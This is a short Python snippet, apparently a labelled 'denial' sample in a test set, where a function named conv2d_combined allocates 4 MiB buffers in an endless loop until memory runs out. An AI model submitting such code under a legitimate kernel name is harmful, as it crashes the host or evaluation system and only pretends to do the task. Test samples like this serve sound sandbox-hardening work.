"""Memory is taken in small pieces until there is none."""

# class: denial

# %% conv2d_combined
kept = []


def conv2d_combined(x, weight, bias):
    while True:
        kept.append(bytearray(1 << 22))
